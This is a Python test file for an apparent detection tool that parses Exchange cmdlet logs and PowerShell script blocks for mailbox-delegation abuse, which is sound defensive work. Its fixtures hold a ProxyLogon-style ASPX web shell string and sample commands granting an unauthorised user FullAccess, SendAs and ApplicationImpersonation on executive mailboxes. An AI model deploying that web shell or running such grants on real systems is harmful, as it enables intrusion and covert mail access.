"""The Exchange cmdlet text tokenizer: the cmdlet-log rendering and PowerShell script blocks."""

from __future__ import annotations

from delegatewatch.sources.formats.cmdlet_text import (
    parse_command_text, parse_log_parameters, parse_message, script_commands, ual_record,
)


def _d(params):
    return {p["Name"]: p["Value"] for p in params}


def test_log_rendering_real_record():
    # MSExchange_Management_wec.evtx Data[1], verbatim
    params = parse_log_parameters('-Identity "Administrateur" -DeliverToMailboxAndForward "False" '
                                  '-ForwardingSmtpAddress "smtp:test2@example.com"')
    assert params == [{"Name": "Identity", "Value": "Administrateur"},
                      {"Name": "DeliverToMailboxAndForward", "Value": "False"},
                      {"Name": "ForwardingSmtpAddress", "Value": "smtp:test2@example.com"}]


def test_log_rendering_unescaped_inner_quotes_and_spaces():
    # the real ProxyLogon message: Exchange does not escape quotes inside values
    parsed = parse_message('Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl '
                           '"http://ffff/#<script language="JScript" runat="server"> function Page_Load()'
                           '{/**/eval(Request["code"],"unsafe");}</script>" -Identity "OAB (Default Web Site)".')
    assert parsed is not None
    cmdlet, params, ok = parsed
    assert cmdlet == "Set-OabVirtualDirectory" and ok
    assert _d(params)["ExternalUrl"].endswith('eval(Request["code"],"unsafe");}</script>')
    assert _d(params)["Identity"] == "OAB (Default Web Site)"


def test_log_rendering_switch_backslash_and_failure():
    params = _d(parse_log_parameters('-Identity "ceo" -AutoMapping -User "CORP\\eve" -AccessRights "FullAccess,SendAs"'))
    assert params == {"Identity": "ceo", "AutoMapping": "True", "User": "CORP\\eve", "AccessRights": "FullAccess,SendAs"}
    cmdlet, p, ok = parse_message('Cmdlet failed. Cmdlet Add-MailboxPermission, parameters -Identity "ceo".')
    assert (cmdlet, ok, _d(p)) == ("Add-MailboxPermission", False, {"Identity": "ceo"})
    assert parse_message("Applet de commande réussie.") is None


def test_script_block_commands():
    script = r'''
# grant access
$u = "eve@contoso.com"
Add-MailboxPermission -Identity "ceo@contoso.com" -User $u -AccessRights FullAccess -InheritanceType All -AutoMapping:$false -Confirm:$false
Add-RecipientPermission 'cfo' -Trustee "eve `"the`" x" -AccessRights SendAs; Set-Mailbox ceo -GrantSendOnBehalfTo @{Add="eve","mallory"}
Get-Mailbox -Identity boss | Add-MailboxPermission -User eve -AccessRights FullAccess,SendAs
$p = @{Identity = 'ceo'; User = "eve"; AccessRights = 'FullAccess'}
Add-MailboxPermission @p
New-ManagementRoleAssignment -Role ApplicationImpersonation `
   -User svc@contoso.com
<# Add-MailboxPermission -Identity x -User y #>
Write-Host "Add-MailboxPermission -Identity x"
New-RoleGroup BadGroup -Roles "ApplicationImpersonation" -Members eve
Add-ADPermission -Identity "CN=CEO,OU=Users,DC=contoso,DC=com" -User 'CONTOSO\eve' -ExtendedRights "Send As"
foreach ($m in $list) { Add-MailboxFolderPermission -Identity "ceo:\Inbox" -User Default -AccessRights Reviewer }
'''
    cmds = list(script_commands(script))
    assert [c.cmdlet for c in cmds] == [
        "Add-MailboxPermission", "Add-RecipientPermission", "Set-Mailbox", "Add-MailboxPermission",
        "Add-MailboxPermission", "New-ManagementRoleAssignment", "New-RoleGroup", "Add-ADPermission",
        "Add-MailboxFolderPermission"]
    assert _d(cmds[0].parameters) == {"Identity": "ceo@contoso.com", "User": "eve@contoso.com", "AccessRights": "FullAccess",
                                      "InheritanceType": "All", "AutoMapping": "False", "Confirm": "False"}
    assert cmds[0].line == 3
    assert _d(cmds[1].parameters) == {"Identity": "cfo", "Trustee": 'eve "the" x', "AccessRights": "SendAs"}
    assert _d(cmds[2].parameters)["GrantSendOnBehalfTo"] == '@{Add="eve","mallory"}'
    assert _d(cmds[3].parameters) == {"Identity": "boss", "User": "eve", "AccessRights": "FullAccess,SendAs"}
    assert _d(cmds[4].parameters) == {"Identity": "ceo", "User": "eve", "AccessRights": "FullAccess"}
    assert _d(cmds[5].parameters) == {"Role": "ApplicationImpersonation", "User": "svc@contoso.com"}
    assert _d(cmds[6].parameters) == {"Name": "BadGroup", "Roles": "ApplicationImpersonation", "Members": "eve"}
    assert _d(cmds[7].parameters)["User"] == "CONTOSO\\eve"
    assert _d(cmds[8].parameters) == {"Identity": "ceo:\\Inbox", "User": "Default", "AccessRights": "Reviewer"}


def test_single_quotes_here_strings_and_no_false_commands():
    assert list(script_commands("Write-Output 'Add-MailboxPermission -User x'")) == []
    assert list(script_commands('$t = @"\nAdd-MailboxPermission -Identity a -User b\n"@\n')) == []
    c = parse_command_text("Set-MailboxFolderPermission -Identity 'it''s:\\Calendar' -User Anonymous -AccessRights None")
    assert c is not None and _d(c.parameters)["Identity"] == "it's:\\Calendar"


def test_ual_record_shape():
    rec = ual_record("Add-MailboxPermission", [{"Name": "Identity", "Value": "ceo"}], caller="corp/Users/admin",
                     time="2026-01-01T00:00:00", succeeded=True, record_id="42")
    assert rec["RecordType"] == 1 and rec["Workload"] == "Exchange" and rec["ResultStatus"] == "True"
    assert rec["ObjectId"] == "ceo" and rec["Id"] == "42" and rec["UserId"] == "corp/Users/admin"
